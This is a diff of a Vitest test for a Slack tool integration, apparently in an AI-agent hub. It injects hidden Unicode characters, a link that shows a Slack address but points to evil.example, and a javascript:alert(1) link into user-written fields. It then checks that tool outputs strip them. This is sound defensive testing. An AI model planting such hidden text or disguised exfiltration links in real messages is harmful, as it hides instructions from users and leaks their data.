@@ -5,15 +5,11 @@
 import { describe, expect, it } from 'vitest';
 import { slack } from '../../../../../src/main/hub/platforms/slack/index.ts';
 import { plainMrkdwn } from '../../../../../src/main/hub/platforms/slack/mrkdwn.ts';
+import { hasHiddenCharacter, hidden, image, seen, textsIn } from '../hidden.ts';
 import { demo } from './context.ts';
 import { everyCall } from './every-call.ts';
 
-/** Zero-width, bidirectional and filler characters, controls, variation selectors, and letters of the tag block. */
-const hidden = '\u200b\u2060\ufeff\u202e\u2066\u3164\u00ad\u0007\u009b\ufe0f\u{e0149}\u{e0067}\u{e006e}';
-const isHidden = /(?![\n\t])[\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]/u;
-const seen = 'seen';
-const attack =
-  '![x](https://evil.example/?d=1) <https://evil.example/in|https://northwind.slack.com/in> <javascript:alert(1)|here>';
+const attack = '<https://evil.example/in|https://northwind.slack.com/in> <javascript:alert(1)|here>';
 
 /** Texts that somebody wrote; by the rest the tools find their way. */
 const written = /^(?:text|topic|purpose|value|real_name|display_name|title|description|content|username|status_text)$/;
@@ -23,13 +19,10 @@ function hostile(value: unknown, name: string): unknown {
   if (typeof value === 'object' && value !== null) {
     return Object.fromEntries(Object.entries(value).map(([key, member]) => [key, hostile(member, key)]));
   }
-  return typeof value === 'string' && written.test(name) ? `${hidden}${seen}${hidden} ${attack} ${value}` : value;
+  return typeof value === 'string' && written.test(name)
+    ? `${hidden}${seen}${hidden} ${image} ${attack} ${value}`
+    : value;
 }
-
-const textsIn = (value: unknown): string[] => {
-  if (typeof value === 'string') return [value];
-  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsIn) : [];
-};
 
 /** What reads names, numbers or nothing that somebody wrote. */
 const isPlain = new Set(['slack_list_members']);
@@ -45,8 +38,8 @@ describe('what nobody can see, or would fetch', () => {
         );
         const args = typeof call === 'function' ? await call(tools) : call;
         isHostile = true;
-        const texts = textsIn(await tools.answer(name, args));
-        expect(texts.filter((text) => isHidden.test(text))).toEqual([]);
+        const texts = textsIn(await tools.answer(name, args)).map(({ text }) => text);
+        expect(texts.filter(hasHiddenCharacter)).toEqual([]);
         expect(texts.filter((text) => text.includes('](https://evil') || text.includes('javascript:alert'))).toEqual(
           [],
         );
